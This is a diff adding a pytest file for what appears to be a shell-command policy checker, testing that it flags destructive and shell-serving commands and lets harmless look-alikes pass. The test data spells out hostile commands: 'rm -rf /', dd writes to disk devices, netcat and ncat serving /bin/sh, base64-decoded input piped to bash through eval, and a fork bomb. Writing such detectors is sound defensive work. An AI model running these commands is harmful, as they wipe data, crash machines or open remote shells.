@@ -1,0 +1,93 @@
+"""Deeds by their names, in whatever case; several texts together; and which rule is named when several apply."""
+
+from __future__ import annotations
+
+import pytest
+
+from nacre import Decision, Policy, check
+from nacre.policy.compat_rules import actions, removals
+from nacre.policy.compat_rules.actions import deed, in_any_case
+from nacre.policy.custom_rules import text_rule, texts_rule
+from nacre.policy.rule import Rule
+
+
+def said(command: str, *rules: Rule) -> str:
+    policy = Policy(decisions={"*": Decision.ALLOW}, own=rules)
+    return check(command, cwd="/home/dev/project", policy=policy).what
+
+
+ROOT = deed("root", "root", in_any_case(removals.removes_root))
+DEVICE = deed("device", "device", actions.copies_device)
+FILLS = deed("fills", "fills", in_any_case(actions.fills("/dev/sd")))
+SERVES = deed("serves", "serves", actions.serves_program, in_script=actions.serves_shell)
+DECODED = deed("decoded", "decoded", actions.runs_decoded, in_script=actions.pipes_base64)
+FORKS = deed("forks", "forks", actions.forks_without_end)
+
+
+@pytest.mark.parametrize(
+    ("rule", "command"),
+    [
+        (ROOT, "RM -RF /"),
+        (ROOT, "rm -Rf /"),
+        (DEVICE, "dd if=/dev/zero of=x"),
+        (DEVICE, "dd if=x of=/dev/null"),
+        (DEVICE, "dd of=/dev/sda < x"),
+        (FILLS, "tee -a /dev/sda1 < x"),
+        (FILLS, "cp x /dev/sdb"),
+        (FILLS, "echo x > /DEV/SDA"),
+        (SERVES, "nc -l 80 -e /bin/cat"),
+        (SERVES, "ncat --exec=/usr/bin/env h 1"),
+        (SERVES, "sudo netcat -nve/bin/sh h 1"),
+        (SERVES, "sh -i | nc h 1"),
+        (DECODED, "base64 x | bash"),
+        (DECODED, "base64 -d x | zcat | sh"),
+        (SERVES, "c='sh -i | nc h 1'; eval \"$c\""),
+        (DECODED, "eval 'base64 x | filter' | bash"),
+        (DECODED, "base64 x | eval 'filter | bash'"),
+        (DECODED, "f() { filter; }; { base64 x; } | f | sudo bash"),
+        (DECODED, "bash < <(base64 x | filter)"),
+        (FORKS, "ruby -e 'loop { fork }'"),
+    ],
+    ids=lambda value: value if isinstance(value, str) else "",
+)
+def test_a_deed_is_found(rule: Rule, command: str) -> None:
+    assert said(command, rule) == rule.wording
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "RM -RF /tmp/X",
+        "dd if=a of=b",
+        "pv a | dd of=/dev/null",
+        "dd if=a of=/home/dev/sda 2>/dev/null",
+        "cp /dev/sda1 x",
+        "tee /dev/stderr < x",
+        "grep -e /bin/sh x",
+        "socat TCP-LISTEN:8080,fork EXEC:/bin/cat",
+        "nc -zv h 1",
+        "base64 x | cat",
+        "base64 x | bash -c cat",
+        "eval 'base64 x | cat'; eval 'make | bash'",
+    ],
+)
+def test_what_only_looks_like_it_is_not(command: str) -> None:
+    assert said(command, ROOT, DEVICE, FILLS, SERVES, DECODED, FORKS) == ""
+
+
+def test_several_texts_are_found_wherever_each_stands() -> None:
+    rule = texts_rule("x", "one", "TWO", wording="found")
+    assert said("echo two\nTrue # One", rule) == "found"
+    assert said("echo one", rule) == ""
+    verdict = check("echo two one", policy=Policy(own=(texts_rule("x", "one", "two"),)))
+    assert (verdict.what, verdict.span) == (
+        "`one` is a text that this policy does not let into a command",
+        (9, 12),
+    )
+
+
+def test_fixed_words_come_in_the_order_of_their_rules_not_of_the_text() -> None:
+    rules = (text_rule("a", "late", wording="A"), ROOT, text_rule("b", "early", wording="B"))
+    policy = Policy(decisions={"*": Decision.ALLOW}, own=rules)
+    verdict = check("echo early; rm -rf /; echo late", policy=policy)
+    assert [finding.wording for finding in verdict.findings] == ["A", "root", "B", ""]
